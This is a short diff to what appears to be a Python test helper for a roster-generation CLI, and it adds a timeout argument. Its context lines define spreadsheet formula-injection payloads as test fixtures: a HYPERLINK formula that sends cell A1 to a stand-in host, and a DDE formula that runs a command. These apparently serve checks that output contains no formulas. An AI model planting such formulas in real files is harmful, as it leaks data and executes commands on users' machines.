@@ -15,10 +15,11 @@ HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
 DDE = "=cmd|' /C calc'!A0"
 
 
-def roster(ctx: Ctx, agents_file="agents.xlsx", out="out.xlsx", *extra, req="req.csv", time_limit="2"):
+def roster(ctx: Ctx, agents_file="agents.xlsx", out="out.xlsx", *extra, req="req.csv", time_limit="2",
+           timeout: float = 120):
     ws = ctx.ws
     return ctx.wfm("roster", "-r", ws / req, "-a", ws / agents_file, "-c", ws / "config.toml", "--start", START,
-                   "--days", DAYS, "--time-limit", time_limit, "-o", ws / out, *extra)
+                   "--days", DAYS, "--time-limit", time_limit, "-o", ws / out, *extra, timeout=timeout)
 
 
 def no_formulas(ctx: Ctx, xlsx) -> None:
